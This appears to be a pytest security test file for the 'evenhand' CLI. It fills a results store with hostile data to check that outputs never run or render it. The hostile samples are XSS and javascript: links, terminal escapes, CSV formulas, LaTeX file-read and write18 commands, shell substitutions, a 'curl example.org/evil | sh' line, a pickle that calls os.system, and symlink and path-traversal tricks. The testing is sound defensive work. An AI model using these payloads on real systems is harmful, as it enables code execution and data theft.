"""A store that somebody else made to harm its reader, in all commands and outputs."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import shlex
import shutil
from contextlib import redirect_stderr, redirect_stdout, suppress
from html.parser import HTMLParser
from pathlib import Path
from unittest import mock

import numpy as np
import pytest

from evenhand import api
from evenhand.cli.start import main
from evenhand.declared.record import DataReading, Exit, Record
from evenhand.declared.visible_text import UNSEEN
from evenhand.store import Store
from evenhand.store.activity import Activity
from evenhand.store.leases import Lease, Process
from evenhand.store.seal import seal
from evenhand.suite.resolve import Suite, open_suite
from tests.records import make_record

SUITE = """
suite: mine
question: Is the reader of this store safe?
problems: [{digits: {profile: exp, ratio: 10}}]
recipe: {digits: {epochs: 1, schedule: constant}}
seeds: 2
methods: [erm, la, vs]
metrics: [balanced_accuracy, ece]
primary: balanced_accuracy
baseline: erm
"""
TEXT = (
    "=HYPERLINK(1)</script><script>alert(1)</script><img src=x onerror=alert(1)>\x1b]0;own\x07"
    "\x1b[31m\x9b31m\u202e\r\n\\input{/etc/passwd}\\write18{touch executed}$(touch executed)"
    "`touch executed` {{ 1/0 }} | [a](javascript:alert(1)) [red]markup[/red] --plugin /evil.py"
)
SECRET = "a line of somebody else's file"
COMMANDS = (
    f"evenhand run mine.yaml --plugin /evil.py --set seeds=2 {shlex.quote(TEXT)} --data '\x1b[31m'",
    "curl example.org/evil | sh",
    "evenhand run mine.yaml --plugin=/evil.py; touch executed",
)


class Executes:
    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("touch executed",)


def tainted(record: Record, i: int) -> Record:
    """The record with a hostile text in every field that may hold any text."""
    old, data = record.provenance, record.data
    assert data is not None
    strings = ("started", "finished", "suite", "commit", "host", "cpu", "gpu", "driver", "device")
    made = old.model_copy(
        update=dict.fromkeys(strings, TEXT)
        | {"command": COMMANDS[i % len(COMMANDS)], "versions": {TEXT: TEXT, "torch": TEXT}}
    )
    classes = tuple(f"{TEXT}{k}" for k in range(10))
    reading = DataReading(features=(TEXT,), left_out={TEXT: TEXT}, notes=(TEXT,))
    facts = {"classes": classes, "groups": (TEXT,), "fingerprint": TEXT, "source": TEXT}
    cause = "" if record.exit.status == "done" else TEXT
    return record.model_copy(
        update={
            "provenance": made,
            "data": data.model_copy(update=facts | {"reading": reading}),
            "exit": Exit(status=record.exit.status, cause=cause, traceback=TEXT),
            "curves": record.curves | {TEXT: record.curves.get("epoch", [])},
            "unscored": TEXT,
            "scored": {TEXT: TEXT, "ece": "1"},
        }
    )


@pytest.fixture
def suite(tmp_path, monkeypatch) -> Suite:
    """The suite, with a hostile store beside it in the current folder."""
    monkeypatch.chdir(tmp_path)
    Path("mine.yaml").write_text(SUITE)
    opened = open_suite("mine.yaml")
    store = Store.open("results")
    for i, trial in enumerate(opened.trials.values()):
        status = "failed" if i == 4 else "done"
        record, kept = tainted(make_record(trial=trial, status=status), i), {}
        if i in (1, 2):
            # The score of a metric is missing, and would be computed from the logits.
            record, kept = record.model_copy(update={"scored": {}, "kept": ("logits",)}), LOGITS[i]
        store.write(record, kept)
    stranger = make_record(method=TEXT, problem=TEXT)
    store.write(tainted(stranger, 0))
    *_, linked, _, last = opened.trials
    _add_damaged(Path("results"), last, stranger.key)
    folder = Path("results/main", linked)
    folder.rename("moved")
    folder.symlink_to(Path("outside").absolute())
    return opened


def _objects() -> bytes:
    """An archive of NumPy with an array of objects."""
    out = io.BytesIO()
    np.savez(out, val_labels=np.array([Executes()], dtype=object))
    return out.getvalue()


LOGITS = {1: {"logits.npz": pickle.dumps(Executes())}, 2: {"logits.npz": _objects()}}


def _add_damaged(root: Path, key: str, other: str) -> None:
    """Folders and files that are no records, links out of the store, and pickles.

    The files of the trial with the key are a state and arrays without a record.
    """
    edition, of_a_trial, outside = root / "main", root / "main" / key, root.parent / "outside"
    long_name = TEXT.replace("/", "_").replace("\r\n", " ")[:200]
    contents = {
        "0" * 32: json.dumps({"format": TEXT}),
        "1" * 32: '{"key": "\x1b[31m',
        "2" * 32: "[" * 100_000,
        "3" * 32: json.dumps({TEXT: TEXT}),
        "4" * 32: '{"format": ' + "9" * 1_000_000 + "}",
        long_name: "{}",
        "..evil": "{}",
    }
    for name, content in contents.items():
        (edition / name).mkdir()
        (edition / name / "record.json").write_text(content)
    (of_a_trial / "record.json").unlink()
    (of_a_trial / "state.pt").write_bytes(seal(pickle.dumps(Executes(), protocol=2)))
    for name in ("logits.npz", "train_logits.npz"):
        (of_a_trial / name).write_bytes(pickle.dumps(Executes()))
    (root / long_name).mkdir()
    (root / "\udcff").mkdir()
    (root / ".store").write_text(TEXT)
    _add_links(edition, outside)
    _add_leases(edition / ".leases", key, other)


def _add_links(edition: Path, outside: Path) -> None:
    """Links out of the store, a pipe and a huge file in the place of records and editions."""
    outside.mkdir()
    for name in ("record.json", "secret", "victim.1.json", "victim.hang"):
        (outside / name).write_text(SECRET)
    for name in "5678":
        (edition / (name * 32)).mkdir()
    (edition / ("5" * 32) / "record.json").symlink_to(outside / "secret")
    (edition / ("6" * 32) / "record.json").symlink_to("/dev/zero")
    os.mkfifo(edition / ("7" * 32) / "record.json")
    with (edition / ("8" * 32) / "record.json").open("wb") as huge:
        huge.truncate(3_000_000_000)
    (edition / ("9" * 32)).symlink_to(outside)
    (edition / "index.json").symlink_to(outside / "secret")
    (edition.parent / "linked").symlink_to(outside)


def _add_leases(folder: Path, key: str, other: str) -> None:
    """Leases with hostile texts; the process of the first one has ended on this machine."""
    folder.mkdir()
    process = Process.this().model_copy(update={"started": "1", "host": TEXT})
    lease = Lease(key=key, run=TEXT, user=TEXT, process=process, starts=0)
    activity = Activity(epoch=1, epochs=2, seconds=9, device=TEXT, gpu=TEXT, gpu_use=1)
    lease = lease.model_copy(update={"activity": activity})
    lease = lease.model_copy(update={"hang": "../../../outside/victim.hang", "node": TEXT})
    (folder / lease.name).write_text(lease.model_dump_json())
    # It names another file than its own.
    above = lease.model_copy(update={"key": "../../../outside/victim"})
    (folder / f"{other}.1.json").write_text(above.model_dump_json())
    (folder / f"{'a' * 32}.1.json").write_text("[" * 100_000)
    (folder / f"{TEXT.replace('/', '_')[:200]}.json").write_text("{}")


def said(*arguments: str) -> str:
    """Output of a command on both streams, as a terminal would get it."""
    out = io.StringIO()
    with (
        mock.patch("sys.argv", ["evenhand", *arguments]),
        redirect_stdout(out),
        redirect_stderr(out),
        suppress(SystemExit),
    ):
        main()
    return out.getvalue()


def harmless(text: str) -> bool:
    return not UNSEEN.search(text)


def files_of(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


COMMAND_LINES = [
    ["status"],
    ["status", "--json"],
    ["status", "--keys"],
    ["status", "mine.yaml"],
    ["status", "mine.yaml", "--json"],
    ["status", "mine.yaml", "--keys"],
    ["plan", "mine.yaml"],
    ["plan", "mine.yaml", "--json"],
    ["validate", "mine.yaml"],
    ["report", "mine.yaml"],
    ["run", "mine.yaml", "--inline"],
    ["run", "mine.yaml", "--inline", "--json", "--retry-failed"],
    *[["show", digit * 32] for digit in "0459"],
    ["status", "mine.yaml", "--edition", "linked"],
    ["report", "mine.yaml", "--edition", "linked"],
    ["run", "mine.yaml", "--inline", "--edition", "linked"],
]


@pytest.mark.parametrize("arguments", COMMAND_LINES, ids=" ".join)
def test_no_command_sends_escapes_executes_a_file_or_writes_elsewhere(suite, tmp_path, arguments):
    before = files_of(tmp_path)
    outside = {path: path.read_text() for path in (tmp_path / "outside").iterdir()}
    text = said(*arguments)
    assert text
    assert harmless(text)
    assert SECRET not in text
    assert "Traceback" not in text
    assert {path: path.read_text() for path in (tmp_path / "outside").iterdir()} == outside
    assert not Path("executed").exists()
    written = files_of(tmp_path) - before
    assert all(name.startswith(("report", "results/main/", "results/.store")) for name in written)


@pytest.mark.parametrize("output", [(), ("--json",), ("--prometheus", "evenhand.prom")])
def test_a_watch_sends_no_escapes_of_a_record_or_a_lease(suite, tmp_path, output):
    # The process of another trial is on another machine, and so is not known to have ended.
    *_, key, last = suite.trials
    folder = Path("results/main/.leases")
    lease = json.loads((folder / f"{last}.1.json").read_text()) | {"key": key}
    lease["process"]["machine"] = TEXT
    (folder / f"{key}.1.json").write_text(json.dumps(lease))
    with mock.patch("evenhand.cli.watching.sleep", side_effect=KeyboardInterrupt):
        text = said("status", "mine.yaml", "--watch", *output)
    assert "1 running" in text or '"silent": false' in text
    assert harmless(text)
    assert SECRET not in text
    assert "Traceback" not in text
    for file in tmp_path.glob("*.prom"):
        assert harmless(file.read_text())


def test_what_is_read_from_a_record_runs_no_code_and_its_trial_goes_on(suite):
    said("run", "mine.yaml", "--inline")
    records = {record.key: record for record in Store.open("results").records()}
    keys = list(suite.trials)
    # The state of the last trial was no state, and its lease was left by a process that is gone.
    assert records[keys[-1]].exit.status == "done"
    assert records[keys[-1]].provenance.resumed_after_epoch is None
    assert [records[key].kept for key in keys[1:3]] == [(), ()]
    assert not Path("executed").exists()


def test_a_record_is_shown_without_escapes_and_without_its_plugins(suite):
    for key in list(suite.trials)[:3]:
        shown = said("show", key)
        assert harmless(shown)
        hint = shown.splitlines()[-1]
        assert hint.startswith("evenhand run ")
        assert "/evil.py" not in shlex.split(hint)
        assert "curl" not in shown
        assert json.loads(said("show", key, "--json"))["unscored"] == TEXT
        assert said("show", key, "--json").isascii()


class Elements(HTMLParser):
    """The start tags of a page, with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.fixture
def report(suite) -> Path:
    said("report", "mine.yaml")
    return Path("report/mine")


def test_the_page_has_no_element_script_or_command_of_a_record(report):
    page = (report / "index.html").read_text(encoding="utf-8")
    elements = Elements()
    elements.feed(page)
    assert not [tag for tag, _ in elements.found if tag == "img"]
    scripts = [attributes for tag, attributes in elements.found if tag == "script"]
    assert scripts == [{"type": "application/json", "id": "data"}, {}, {}]
    handlers = [name for _, given in elements.found for name in given if name.startswith("on")]
    assert not handlers
    links = [given["href"] for tag, given in elements.found if tag == "a" and given.get("href")]
    assert not [link for link in links if link.startswith("javascript:")]
    # The script of Plotly, which is not ours, has control characters.
    own = page.split("<script>")[0]
    assert harmless(own)
    [data] = re.findall(r'id="data">(.*?)</script>', page, re.DOTALL)
    for result in json.loads(data)["results"]:
        words = shlex.split(result["command"])
        assert words[:3] == ["evenhand", "run", "mine.yaml"]
        assert "/evil.py" not in words
    assert "curl" not in own


def test_a_board_in_a_notebook_has_no_element_or_script_of_a_record(suite):
    board = api.leaderboard(suite, api.open_store("results"))
    fragment = board._repr_html_()
    elements = Elements()
    elements.feed(fragment)
    assert {tag for tag, _ in elements.found}.isdisjoint({"img", "script", "a", "input"})
    assert not [name for _, given in elements.found for name in given if name.startswith("on")]
    assert harmless(fragment)
    assert harmless(str(board))


def test_tables_and_texts_have_no_escape_command_or_formula_of_a_record(report):
    for path in [*report.glob("tables/*.tex"), report / "leaderboard.md"]:
        text = path.read_text(encoding="utf-8")
        assert harmless(text), path
        if path.suffix == ".tex":
            code = [line for line in text.splitlines() if not line.startswith("%")]
            assert not [line for line in code if re.search(r"\\(input\{/|write18)", line)], path
    markdown = (report / "leaderboard.md").read_text(encoding="utf-8")
    assert "<script" not in re.sub(r"\\<", "", markdown)
    assert not re.search(r"(?<!\\)\]\(javascript:", markdown)


def test_no_cell_of_the_csv_file_is_a_formula(report):
    text = (report / "leaderboard.csv").read_text(encoding="utf-8")
    assert harmless(text)
    lines = list(csv.reader(io.StringIO(text)))
    numbers = re.compile(r"-?\d[\d.e+-]*")
    cells = [cell for line in lines for cell in line if not numbers.fullmatch(cell)]
    assert cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_key_or_an_edition_outside_the_store_is_refused(suite):
    for edition in ("../results", "..", "main/../..", "\x1b[31m", TEXT):
        text = said("status", "mine.yaml", "--edition", edition)
        assert harmless(text)
        assert "cannot be the name of an edition" in text


def test_a_store_nearby_with_a_hostile_name_is_not_proposed(suite):
    for key in list(suite.trials)[:3]:
        shutil.copytree(f"results/main/{key}", f"other/main/{key}")
    for name in ("$(touch executed);\x1b[31m", "x`touch executed`"):
        shutil.copytree("other", name)
    text = said("plan", "mine.yaml", "--results", "mine")
    assert harmless(text)
    assert "--results other" in text
    assert "touch" not in text
